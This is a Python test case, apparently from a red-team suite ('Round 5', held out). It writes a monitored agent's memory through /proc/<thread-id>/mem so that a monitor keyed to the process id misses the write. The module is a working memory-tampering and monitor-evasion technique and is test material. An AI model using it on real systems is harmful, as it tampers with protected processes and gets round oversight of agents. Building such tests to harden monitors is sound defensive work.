"""Round 5: write the agent's memory via /proc/<tid>/mem: its second thread's id as a top-level /proc entry.

Every thread id resolves under /proc even though only thread-group leaders are
listed there; the mem file of a thread is the process's memory.  Aimed at the
claim that the /proc path's pid is resolved to the monitored task.
"""

from __future__ import annotations

import os
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 5
EXPECT = ("L5",)


def run(args: dict[str, Any]) -> None:
    pid, proc = int(args["pid"]), args.get("proc", "/proc")
    tid = rt.other_tid(pid, proc)
    addr = rt.target_addr(args, pid, proc)
    t = rt.now()
    fd = os.open(f"{proc}/{tid}/mem", os.O_RDWR)
    n = rt.rewrite_mem(fd, addr)
    rt.report(
        t, n == 32 and tid != pid, f"{proc}/{tid}/mem (thread of {pid}): rewrote {n} bytes at {addr:#x}"
    )


if __name__ == "__main__":
    rt.main(run, globals())
